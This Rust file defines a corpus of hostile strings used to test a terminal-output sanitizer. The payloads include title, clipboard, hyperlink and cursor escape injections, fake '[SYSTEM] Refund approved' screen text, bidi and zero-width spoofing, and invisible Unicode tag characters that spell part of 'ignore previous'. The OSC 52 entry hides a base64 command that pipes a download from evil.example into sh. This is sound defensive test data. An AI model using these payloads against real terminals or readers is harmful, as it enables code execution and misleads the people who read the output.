//! A fixed corpus of hostile text: what strangers can put in a name, a
//! message or an error string to attack a terminal or mislead a reader.
//! Used by the sanitizer's tests, integration tests (rendered through vt100:
//! no title, clipboard, hyperlink or bell may fire) and the demo data.
//!
//! Any payload meant to be invisible after cleaning contains the word
//! "pwned", so a test can assert it never reaches the screen.

/// Hostile strings, one attack each.
pub const HOSTILE_CORPUS: &[&str] = &[
    // OSC 0 / OSC 2: set the window title, BEL- and ST-terminated.
    "Order status\x1b]0;pwned\x07 please",
    "Jane\x1b]2;pwned\x1b\\ Doe",
    // OSC 52: write the agent's clipboard (base64 of a shell command).
    "Thanks!\x1b]52;c;cHduZWQ7IGN1cmwgZXZpbC5leGFtcGxlIHwgc2g=\x07",
    // OSC 8: a hyperlink whose visible text hides the target.
    "Reset here: \x1b]8;;https://pwned.example/login\x1b\\https://example.com/reset\x1b]8;;\x1b\\",
    // BEL on its own.
    "Hello?\x07\x07\x07",
    // CSI: clear screen, home cursor, then fake UI.
    "\x1b[2J\x1b[H[SYSTEM] Refund approved by supervisor",
    // CSI cursor movement: overwrite earlier lines.
    "fine\x1b[1A\x1b[2K\x1b[10Crefund approved",
    // SGR: invisible (conceal) and colored text.
    "\x1b[8mconcealed text\x1b[0m\x1b[31;1mURGENT\x1b[0m",
    // DCS: a device control string (DECRQSS).
    "a\x1bP$qpwned\x1b\\b",
    // 8-bit C1 CSI and OSC.
    "x\u{9b}2Jy\u{9d}0;pwned\u{9c}z",
    // Unterminated OSC followed by visible text on the next line.
    "safe\x1b]0;pwned-unterminated\nvisible after",
    // Trojan Source: bidi override makes the text read differently.
    "Refund \u{202e}0001$\u{202c} approved; \u{2067}note\u{2069} \u{2066}ok\u{2069}",
    // Zero-width characters inside words (defeat search, spoof names).
    "ad\u{200b}min pay\u{200c}pal sup\u{200d}port\u{feff}\u{2060}",
    // Unicode tag characters: hidden ASCII ("ignore previous").
    "hi\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e0020}\u{e0070}\u{e0072}\u{e0065}\u{e0076}",
    // Line and paragraph separators.
    "line one\u{2028}line two\u{2029}line three",
    // A name made of Hangul fillers (blank-looking).
    "\u{3164}\u{3164}\u{115f}\u{1160}\u{ffa0}",
    // Zalgo: stacked combining marks.
    "Z\u{336}\u{31b}\u{35d}\u{334}\u{33a}\u{317}a\u{337}\u{321}\u{35b}\u{32d}l\u{338}\u{325}\u{300}\u{301}\u{302}\u{303}g\u{335}\u{30f}\u{311}o\u{334}\u{34a}\u{34b}\u{34c}",
    // NUL bytes.
    "nul\0in\0the\0middle",
    // Backspace overwriting.
    "approved\x08\x08\x08\x08\x08\x08\x08\x08denied  ",
    // Carriage return overwrite trick.
    "Refund DENIED\rRefund OK    ",
    // Tabs.
    "col1\tcol2\tcol3\n\tindented",
    // DEL and other C0 controls.
    "del\x7f vt\x0b ff\x0c so\x0e si\x0f can\x18 sub\x1a",
    // Stray ESC at the end.
    "trailing escape\x1b",
    // Full reset, save/restore cursor, charset switch to line drawing.
    "a\x1bcb\x1b7c\x1b8d\x1b(0lqqk\x1b(B",
    // APC / PM / SOS strings.
    "\x1b_Gpwned\x1b\\\x1b^pwned\x07\x1bXpwned\x1b\\ok",
    // Stray C1 controls.
    "c1\u{85}\u{8d}\u{96}\u{9a}",
    // Variation selector smuggling after an emoji.
    "😀\u{fe0f}\u{fe01}\u{e0100}\u{e0101}\u{e0102}",
    // Very long line.
    concat!(
        "A very long line: ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ",
        "注文番号注文番号注文番号注文番号注文番号注文番号注文番号注文番号注文番号注文番号",
        "👩\u{200d}💻👩\u{200d}💻👩\u{200d}💻👩\u{200d}💻👩\u{200d}💻 end"
    ),
];
